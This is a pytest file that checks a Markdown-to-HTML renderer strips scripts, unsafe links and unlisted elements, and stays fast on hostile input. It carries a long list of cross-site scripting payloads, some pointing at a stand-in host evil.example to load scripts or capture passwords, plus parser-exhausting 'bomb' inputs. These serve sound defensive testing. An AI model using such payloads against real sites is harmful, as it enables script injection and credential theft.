"""Markdown as HTML: nothing in a text becomes script, a request or an unlisted element."""

import time
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from agentd.core.markdown import MAX_RENDERED, render_markdown, strip_markdown

PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src=x:x onerror\x00=alert(1)>",
    '<IMG """><SCRIPT>alert(\'x\')</SCRIPT>">',
    "<svg onload=alert(1)>",
    "<svg><script>alert&#40;1)</script></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text y=20>x</text></a></svg>",
    "<svg><animate attributeName=href values=javascript:alert(1) /></svg>",
    "<svg><use href=data:image/svg+xml;base64,PHN2Zz4=#x /></svg>",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=1">',
    '<math><maction actiontype="statusline#http://x" xlink:href="javascript:alert(1)">x</maction>',
    "<iframe src=javascript:alert(1)></iframe>",
    '<iframe srcdoc="&lt;script>alert(1)&lt;/script>"></iframe>',
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css'; body{background:url(//evil.example)}</style>",
    "<div style=\"background:url('//evil.example/x.png')\">x</div>",
    "<form action=//evil.example><input name=password><button>Sign in</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<body onload=alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='java&#10;script:alert(1)'>x</a>",
    "<a href=# onclick=alert(1) id=token class=primary>x</a>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "<custom-element onclick=alert(1) is=x>x</custom-element>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](  javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](file:///etc/passwd)",
    "[x](/api/session)",
    "[x](//evil.example)",
    '[x](https://ok.example "\\"onmouseover=alert(1) x=\\"")',
    '[x](https://ok.example/"onmouseover=alert(1))',
    "[x]: javascript:alert(1)\n\n[x]",
    "![x](javascript:alert(1))",
    "![x](https://evil.example/track.png)",
    '![x" onerror="alert(1)](https://evil.example/x.png)',
    "[![x](https://evil.example/track.png)](javascript:alert(1))",
    "<javascript:alert(1)>",
    "<https://ok.example/\"onmouseover='alert(1)'>",
    "<a@b.example onclick=alert(1)>",
    '``` "><img src=x onerror=alert(1)>\ncode\n```',
    "```x onclick=alert(1)\n</code></pre><script>alert(1)</script>\n```",
    "`<img src=x onerror=alert(1)>`",
    "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
    "- [x] <input type=text onfocus=alert(1)>",
    "\ue000script\ue000alert(1)",
    "[x](https://ok.example/\ue000img onerror=alert(1)\ue000)",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "\u202e<img src=x onerror=alert(1)>\u2066",
    "<img/src=`x`onerror=alert(1)>",
    'http://evil.example/"onmouseover=alert(1)',
]

ALLOWED = {
    "a": {"href", "title", "rel"},
    "code": {"class"},
    "ol": {"start"},
    "td": {"align"},
    "th": {"align"},
    "input": {"type", "disabled", "checked"},
}
"""The attributes of those elements that have any."""
BARE = {
    *("blockquote", "br", "del", "em", "h1", "h2", "h3", "h4", "h5", "h6", "hr", "li", "p"),
    *("pre", "strong", "table", "tbody", "thead", "tr", "ul"),
}


class Elements(HTMLParser):
    """The elements of a page, as a parser of HTML sees them."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str]]] = []
        self.text = ""
        self.feed(page)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, {name: value or "" for name, value in attrs}))

    def handle_data(self, data: str) -> None:
        self.text += data


def check_harmless(page: str) -> Elements:
    """Check that all elements and attributes are listed ones, and links lead to the web or mail."""
    elements = Elements(page)
    for tag, attributes in elements.found:
        assert tag in ALLOWED or tag in BARE
        assert attributes.keys() <= ALLOWED.get(tag, set()), (tag, attributes)
        if "href" in attributes:
            assert attributes["href"].startswith(("https://", "http://", "mailto:"))
            assert attributes["rel"] == "noopener noreferrer nofollow"
        if tag == "input":
            assert attributes["type"] == "checkbox"
    return elements


@pytest.mark.parametrize("place", ["{}", "a {} b", "> {}", "- {}", "# {}", "**{}**", "[{}](x)"])
@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_text_becomes_script_or_a_request(payload: str, place: str) -> None:
    for keep_breaks in (False, True):
        check_harmless(render_markdown(place.format(payload), keep_breaks=keep_breaks).html)


def test_there_are_at_least_sixty_of_them() -> None:
    assert len(set(PAYLOADS)) >= 60


def test_html_is_shown_as_it_is_written() -> None:
    for text in ("<b>bold</b>", "<div>\n\ntext\n\n</div>", "a <!-- comment --> b", "1 < 2 <3"):
        shown = Elements(render_markdown(text).html).text
        assert shown.split() == text.split()


def test_the_dialect_of_github_is_known() -> None:
    text = (
        "# Title\n\n- [x] done\n- [ ] open\n\n| a | b |\n|:--|--:|\n| 1 | 2 |\n\n~~gone~~"
        " www.example.com <https://x.example/?a=1&b=2> <ann@x.example>\n\n"
        "3. three\n\n```python\na < b\n```\n"
    )
    elements = check_harmless(render_markdown(text).html)
    tags = [tag for tag, _ in elements.found]
    assert {"h1", "table", "del", "ol", "pre"} <= set(tags)
    assert [attributes.get("checked") for tag, attributes in elements.found if tag == "input"] == [
        "",
        None,
    ]
    links = [attributes["href"] for tag, attributes in elements.found if tag == "a"]
    assert links == ["http://www.example.com", "https://x.example/?a=1&b=2", "mailto:ann@x.example"]
    assert ("code", {"class": "language-python"}) in elements.found
    assert ("ol", {"start": "3"}) in elements.found
    assert "a < b" in elements.text


def test_images_are_links_since_a_remote_image_shows_who_reads() -> None:
    page = render_markdown("![a cat](https://x.example/cat.png)").html
    assert ("a" in page, "<img" in page, "a cat" in page) == (True, False, True)
    badge = check_harmless(
        render_markdown("[![built](https://x.example/b.svg)](https://y.example)").html
    )
    (link,) = [attributes["href"] for tag, attributes in badge.found if tag == "a"]
    assert (link, badge.text.strip()) == ("https://y.example", "built")


def test_line_breaks_are_kept_where_that_is_asked_for() -> None:
    assert "<br>" in render_markdown("one\ntwo", keep_breaks=True).html
    assert "<br>" not in render_markdown("one\ntwo").html


def test_what_is_no_unicode_text_is_no_failure() -> None:
    assert "x" in render_markdown("\ud800 \0 x").html


def test_a_long_text_is_cut_at_a_line() -> None:
    line = "word " * 20
    rendered = render_markdown(f"{line}\n\n" * 2000)
    assert rendered.cut
    assert len(rendered.html) < 2 * MAX_RENDERED
    assert Elements(rendered.html).text.strip().endswith("word")
    assert not render_markdown("x" * MAX_RENDERED).cut


@pytest.mark.parametrize(
    "text",
    [
        "a\n\n" * 20_000,
        "- a\n" * 16_000,
        "*a* " * 16_000,
        "|" + "a|" * 60 + "\n" + "|-" * 60 + "|\n",
    ],
)
def test_a_text_of_too_many_elements_for_a_phone_is_shown_plain(text: str) -> None:
    few, many = render_markdown(text[:1_500]).html, render_markdown(text * 200).html
    assert few.count("<") > 50
    assert many.startswith("<pre>")
    assert many.count("<") == 2


BOMBS = {
    "quotations": "> " * 2_500_000,
    "nested lists": "".join(f"{'  ' * level}- a\n" for level in range(2_000)),
    "brackets": "[" * 5_000_000,
    "links": "[a](" * 1_250_000,
    "images": "![](b)" * 800_000,
    "emphasis": "*a **a " * 700_000,
    "nested emphasis": "*".join("a_" * 800_000),
    "code": "".join("`" * count + "a" for count in range(1_500)),
    "table": "|a" * 8_000 + "|\n" + "|-" * 8_000 + "|\n" + "|\n" * 8_000,
    "wide table": "|a" * 300 + "|\n" + "|-" * 300 + "|\n" + "|\n" * 60_000,
    "less than": "<" * 5_000_000,
    "unfinished tags": "<a@" * 1_600_000,
    "addresses": "http://a" * 600_000,
    "mail": "a." * 2_500_000 + "@b",
    "references": "[a]: b\n" * 9_000 + "[a]" * 500,
    "entities": "&#x41;" * 800_000,
    "one line": "x" * 5_000_000,
    "bidirectional marks": "\u202e\u2066" * 2_500_000,
}


@pytest.mark.parametrize("name", BOMBS)
def test_what_is_made_to_be_costly_is_not(name: str) -> None:
    """At most about as much as the same amount of harmless text, whose cost is linear."""
    harmless = "some *text* with a [link](https://x.example) and `code` in it\n\n" * 1_100

    def measure(text: str) -> float:
        taken = []
        for _ in range(3):
            start = time.process_time()
            rendered = render_markdown(text)
            taken.append(time.process_time() - start)
            assert len(rendered.html) < 2 * 1024 * 1024
        return min(taken)

    assert measure(BOMBS[name]) < 60 * measure(harmless)


@pytest.mark.parametrize(
    ("text", "plain"),
    [
        (
            "## Result\n\n- **all** tests *pass*\n- `make` is ~~slow~~",
            "Result all tests pass make is slow",
        ),
        ("see [the log](https://example.com/a_b) and ![x](y.png)", "see the log and x"),
        ("> quoted\n\n```python\nx = 1\n```\nend", "quoted x = 1 end"),
        ("2 * 3 = 6, snake_case_name, a*b, f(x)", "2 * 3 = 6, snake_case_name, a*b, f(x)"),
        ("- [ ] open\n- [x] done", "open done"),
        ("__bold__ and _slanted_", "bold and slanted"),
    ],
)
def test_marks_are_stripped_for_excerpts(text: str, plain: str) -> None:
    assert strip_markdown(text) == plain


@given(st.text(alphabet="*_`~[]()#>- ab\n!", max_size=2000))
def test_stripping_marks_keeps_every_letter_of_text_without_links(text: str) -> None:
    bare = text.replace("(", "")
    stripped = strip_markdown(bare)
    assert "\n" not in stripped
    if not {"`", "~"} & set(bare):
        letters = [one for one in bare if one in "ab"]
        assert [one for one in stripped if one in "ab"] == letters
